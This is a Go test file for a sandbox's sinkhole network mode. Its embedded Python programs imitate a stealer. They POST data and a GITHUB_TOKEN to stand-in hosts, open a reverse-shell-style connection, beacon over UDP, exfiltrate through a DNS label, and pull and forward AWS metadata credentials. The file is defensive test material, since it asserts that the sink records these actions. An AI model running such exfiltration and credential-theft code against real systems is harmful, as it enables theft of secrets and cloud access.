package moattest

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/moat-sandbox/moat"
)

// Sinkhole is the shared case of --network sinkhole, for every backend
// that serves one: every name resolves into 198.18.0.0/15, HTTP is
// answered, TLS is terminated with the run's CA (which the sandbox's
// system store trusts) and read in clear, raw TCP and UDP are accepted
// and recorded, a DNS label is recorded whole, a raw query from an
// unconnected UDP socket is answered (to the nameserver and to any
// address's port 53), the metadata address
// answers with the run's fake credentials (a credential-access finding on
// the sink's evidence), and the sandbox's 127.0.0.1 is its own: a
// listener on the host's loopback gets nothing. Each is asserted on the
// Result's network events, never on the program's word alone. mod, if
// set, adjusts the Spec (AllowDegraded, say).
func Sinkhole(t *testing.T, b moat.Backend, mod func(*moat.Spec)) *moat.Result {
	t.Helper()
	port, accepted := HostListener(t, "127.0.0.1:0")
	prog := fmt.Sprintf(`
import json, socket, ssl, urllib.request
r = urllib.request.urlopen("http://evil.example.com/steal?x=1", data=b"secret", timeout=20)
print("http", r.status, r.read())

raw = socket.create_connection(("198.51.100.1", 443), timeout=20)
# The system store holds the run's CA: the sink's leaf for the SNI verifies.
t = ssl.create_default_context().wrap_socket(raw, server_hostname="bank.example")
print("tls verified", t.getpeercert()["subject"])
t.close()

s = socket.create_connection(("203.0.113.9", 4444), timeout=20)
s.sendall(b"id\n")
s.close()

u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"beacon", ("198.51.100.7", 9999))

# A raw DNS query from an unconnected socket (sendto, then recv), to the
# resolv.conf nameserver and to an address of the world's: the sink's
# reply must reach it, not be steered back to the sink.
import struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
for i, a in enumerate((ns, "192.0.2.53")):
    q = struct.pack(">HHHHHH", 0x4d00 + i, 0x0100, 1, 0, 0, 0) + b"\x04rawq\x07example\x00" + struct.pack(">HH", 1, 1)
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    d.settimeout(10)
    d.sendto(q, (a, 53))
    try:
        r = d.recv(512)
        print("raw dns", i, "answered" if r[:2] == q[:2] else "mismatched")
    except OSError as e:
        print("raw dns", i, "unanswered", e)

print("dns", socket.gethostbyname("%s.exfil.example"))

base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = urllib.request.urlopen(base, timeout=20).read().decode()
creds = json.loads(urllib.request.urlopen(base + role, timeout=20).read())
print("aws", creds["AccessKeyId"][:4])

# 127.0.0.1 inside is the sandbox's own loopback, not the host's; nor
# does QEMU's user-network address for the host (10.0.2.2) reach it.
try:
    socket.create_connection(("127.0.0.1", %d), timeout=5)
    print("loopback connected")
except OSError:
    print("loopback refused")
try:
    socket.create_connection(("10.0.2.2", %d), timeout=5).close()
except OSError:
    pass
`, sinkLabel, port, port)
	res := runSinkhole(t, b, &moat.Spec{Args: []string{"prog.py"}, Files: map[string][]byte{"prog.py": []byte(prog)}}, mod)
	dump := func() string {
		var b strings.Builder
		fmt.Fprintf(&b, "status %s exit %d\nstdout:\n%s\nstderr:\n%s\nnetwork events:\n", res.Status, res.ExitCode, res.Stdout, res.Stderr)
		for _, ev := range res.Events {
			if ev.Source == moat.SourceNetwork {
				fmt.Fprintf(&b, "  %+v\n", ev)
			}
		}
		return b.String()
	}
	if res.Status != moat.StatusExited || res.ExitCode != 0 {
		t.Fatalf("the program failed:\n%s", dump())
	}
	for _, w := range []string{"http 200 b''", "tls verified ((('commonName', 'bank.example'),),)", "dns 198.18.", "aws ASIA", "loopback refused", "raw dns 0 answered", "raw dns 1 answered"} {
		if !strings.Contains(res.Stdout, w) {
			t.Errorf("stdout lacks %q", w)
		}
	}
	for _, c := range []struct {
		what string
		kind moat.Kind
		want []string
	}{
		{"dns evil.example.com", "dns", []string{"evil.example.com", "sinkholed A 198.18."}},
		{"http connect", moat.KindConnect, []string{"evil.example.com", "host=evil.example.com", "/steal?x=1", "secret"}},
		{"tls sni", moat.KindConnect, []string{"198.51.100.1:443", "sni=bank.example decrypted"}},
		{"reverse shell", moat.KindConnect, []string{"203.0.113.9:4444", "sinkholed tcp", `id\n`}},
		{"udp", moat.KindConnect, []string{"198.51.100.7:9999", "sinkholed udp", "beacon"}},
		{"dns exfil label", "dns", []string{sinkLabel + ".exfil.example"}},
		{"raw dns from an unconnected socket", "dns", []string{"rawq.example"}},
		{"metadata", moat.KindMetadata, []string{"169.254.169.254:80", "served fake instance credentials"}},
	} {
		if !hasNetEvent(res, c.kind, c.want...) {
			t.Errorf("no network event for %s", c.what)
		}
	}
	if hasNetEvent(res, moat.KindConnect, fmt.Sprintf("127.0.0.1:%d", port)) {
		t.Errorf("the sandbox's loopback connection was intercepted")
	}
	took := false
	for _, f := range res.Findings {
		for _, e := range f.Evidence {
			took = took || (f.Category == moat.CategoryCredentialAccess && e.Source == moat.SourceNetwork)
		}
	}
	if !took {
		t.Errorf("no credential-access finding on the sink's evidence: %+v", res.Findings)
	}
	if n := accepted(); n != 0 {
		t.Errorf("the host's 127.0.0.1:%d got %d connections from a sinkholed sandbox", port, n)
	}
	layer := false
	for _, l := range res.Layers {
		layer = layer || strings.Contains(l.Name+" "+l.Detail, "sinkhole")
	}
	if !layer {
		t.Errorf("no layer says sinkhole: %+v", res.Layers)
	}
	if t.Failed() {
		t.Log(dump())
	}
	return res
}

// sinkLabel is a DNS label of the longest length (63 bytes).
const sinkLabel = "x123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde"

// hasNetEvent says whether res has a network event of kind whose fields
// (addr, name, detail, path, data) hold every one of want.
func hasNetEvent(res *moat.Result, kind moat.Kind, want ...string) bool {
	for _, ev := range res.Events {
		if ev.Source != moat.SourceNetwork || ev.Kind != kind {
			continue
		}
		all := strings.Join([]string{ev.Addr, ev.Name, ev.Detail, ev.Path, ev.Data}, "\x00")
		ok := true
		for _, w := range want {
			ok = ok && strings.Contains(all, w)
		}
		if ok {
			return true
		}
	}
	return false
}

// SinkholeSecrets is the shared case of what a stealer sends through the
// sinkhole, for every backend that serves one: a planted fake token
// POSTed over HTTPS is read in clear by the sink (the request and its
// body in a network event) and is a critical exfiltration finding on the
// sink's evidence, not the audit hook's; the metadata address answers as
// EC2's IMDSv2 with fake credentials, and taking them is credential
// access, sending one on is exfiltration. mod, if set, adjusts the Spec.
func SinkholeSecrets(t *testing.T, b moat.Backend, mod func(*moat.Spec)) *moat.Result {
	t.Helper()
	prog := `
import json, os, urllib.request
r = urllib.request.urlopen("https://pypi-evil.example/x", data=os.environ["GITHUB_TOKEN"].encode(), timeout=20)
print("https", r.status)
def get(url, method="GET", **h):
    return urllib.request.urlopen(urllib.request.Request(url, method=method, headers=h), timeout=20).read().decode()
tok = get("http://169.254.169.254/latest/api/token", "PUT", **{"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = get(base, **{"X-aws-ec2-metadata-token": tok})
creds = json.loads(get(base + role, **{"X-aws-ec2-metadata-token": tok}))
print("aws", creds["AccessKeyId"][:4], len(creds["SecretAccessKey"]))
urllib.request.urlopen("http://collect.example/k", data=creds["SecretAccessKey"].encode(), timeout=20)
`
	res := runSinkhole(t, b, &moat.Spec{Args: []string{"-c", prog}}, mod)
	if res.Status != moat.StatusExited || res.ExitCode != 0 {
		t.Fatalf("the program failed: status %s exit %d\n%s\n%s", res.Status, res.ExitCode, res.Stdout, res.Stderr)
	}
	for _, w := range []string{"https 200", "aws ASIA 40"} {
		if !strings.Contains(res.Stdout, w) {
			t.Errorf("stdout lacks %q:\n%s", w, res.Stdout)
		}
	}
	if !hasNetEvent(res, moat.KindConnect, "sni=pypi-evil.example decrypted https POST", "host=pypi-evil.example", "POST /x HTTP/1.1", "ghp_") {
		t.Errorf("no decrypted request with its body among the network events")
	}
	// The sink's exfiltration finding names every secret it saw sent.
	var sent, took, sentKey bool
	for _, f := range res.Findings {
		hook := strings.Contains(f.Summary, "audit hook")
		switch f.Category {
		case moat.CategoryExfiltration:
			bySink := f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, "sent over the network") && !hook
			sent = sent || bySink && strings.Contains(f.Summary, "env-github-token")
			sentKey = sentKey || bySink && strings.Contains(f.Summary, "imds-aws-secret-access-key")
		case moat.CategoryCredentialAccess:
			took = took || strings.Contains(f.Summary, "took the fake credentials moat's sink served") &&
				strings.Contains(f.Summary, "imds-aws-secret-access-key") && !hook
		}
	}
	if !sent {
		t.Errorf("no critical exfiltration finding of the token from the sink")
	}
	if !took {
		t.Errorf("no credential-access finding for the metadata's credentials")
	}
	if !sentKey {
		t.Errorf("no exfiltration finding for the served key sent on")
	}
	if t.Failed() {
		for _, f := range res.Findings {
			t.Logf("finding: %s %s %s", f.Severity, f.Category, f.Summary)
		}
		for _, ev := range res.Events {
			if ev.Source == moat.SourceNetwork {
				t.Logf("network: %+v", ev)
			}
		}
	}
	return res
}

// runSinkhole runs spec (its program) with the sinkhole network and a
// minute's timeout, adjusted by mod; a run that fails to start fails t.
func runSinkhole(t *testing.T, b moat.Backend, spec *moat.Spec, mod func(*moat.Spec)) *moat.Result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	spec.Network, spec.Limits.Timeout = moat.NetworkSinkhole, 60*time.Second
	if mod != nil {
		mod(spec)
	}
	res, err := b.Run(ctx, spec)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	return res
}

// HostListener listens on the host's TCP addr for t's life and counts
// the connections it accepts (each closed at once): a sandbox's
// connection that must never arrive. It returns the port and the count.
func HostListener(t *testing.T, addr string) (int, func() int32) {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	var accepted atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port, accepted.Load
}
